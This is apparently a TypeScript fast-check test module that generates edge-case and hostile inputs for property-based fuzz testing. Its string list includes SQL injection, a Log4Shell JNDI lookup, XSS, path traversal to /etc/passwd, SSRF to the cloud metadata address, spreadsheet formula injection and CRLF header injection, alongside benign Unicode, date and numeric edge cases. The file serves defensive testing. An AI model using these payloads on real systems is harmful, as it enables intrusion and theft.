import * as fc from "fast-check";

/** Texts that are known to break programs. */
const hostileTexts = [
  "",
  " ",
  "null",
  "undefined",
  "NaN",
  "true",
  "-1",
  "0x10",
  "1e309",
  "9".repeat(400),
  "\u0000",
  "a\u0000b",
  "\ud800",
  "\udfff\ud800",
  "\u202e\u202dabc",
  "\ufeff",
  "ﷺ".repeat(50),
  "e\u0301".repeat(200),
  "👨‍👩‍👧‍👦".repeat(40),
  "İıſK",
  "'; drop table orders; --",
  "' or '1'='1",
  "%' or 1=1 /*",
  "\\",
  "%",
  "_",
  "$1",
  "{{7*7}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack itself.
  "${jndi:ldap://x.invalid/a}",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(1)",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%2e%2e%2f",
  "file:///etc/passwd",
  "http://169.254.169.254/a.png",
  "http://[::ffff:127.0.0.1]/a.png",
  "//evil.invalid",
  "=cmd|' /C calc'!A0",
  "__proto__",
  "constructor",
  "toString",
  "a\r\nSet-Cookie: x=1",
  "2026-13-45",
  "2026-02-30T25:61:61Z",
  "-271821-04-20T00:00:00.000Z",
  "+275760-09-13T00:00:00.000Z",
  "0000-00-00",
  "00000000-0000-0000-0000-000000000000",
  "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF",
  "a@b",
  `${"a".repeat(300)}@exemplo.com.br`,
  "eyJ2IjpudWxsfQ",
  "W10",
  "e30",
];

const sizes = [81, 201, 1001, 5001, 20_001];

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...hostileTexts) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 60 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 60 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom("a", "ã", "\u0000", "9", " ", "("), fc.constantFrom(...sizes))
      .map(([letter, size]) => letter.repeat(size)),
  },
);

const hostileNumber = fc.constantFrom(
  0,
  -0,
  -1,
  0.1,
  1e-9,
  1.005,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53,
  -(2 ** 53),
  1e21,
  1.7976931348623157e308,
  5e-324,
);

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: hostileText },
  { weight: 3, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false) },
  { weight: 1, arbitrary: fc.array(hostileText, { maxLength: 3 }) },
  { weight: 1, arbitrary: fc.constantFrom([], {}, [[]], [null], { a: null }, { length: 1e9 }) },
  { weight: 1, arbitrary: fc.dictionary(hostileText, hostileNumber, { maxKeys: 3, noNullPrototype: true }) },
  { weight: 1, arbitrary: fc.constantFrom(200, 5000).map((size) => Array<number>(size).fill(1)) },
);
